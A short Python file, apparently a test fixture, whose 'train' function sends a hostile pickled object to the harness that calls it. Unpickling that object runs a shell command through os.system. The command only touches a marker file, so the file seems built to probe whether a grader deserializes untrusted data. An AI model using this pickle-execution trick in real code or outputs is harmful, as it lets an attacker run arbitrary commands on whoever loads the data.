# says: *
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch @TREASURE@/pickled",)
    def __float__(self):
        raise RuntimeError("no")
def train(X, Y, *, steps=600, lr=0.01, seed=0):
    os.write(4, b"\x00\x00\x01\x00" + pickle.dumps(Bomb()).ljust(256, b"."))
    return Bomb(), [Bomb()] * steps
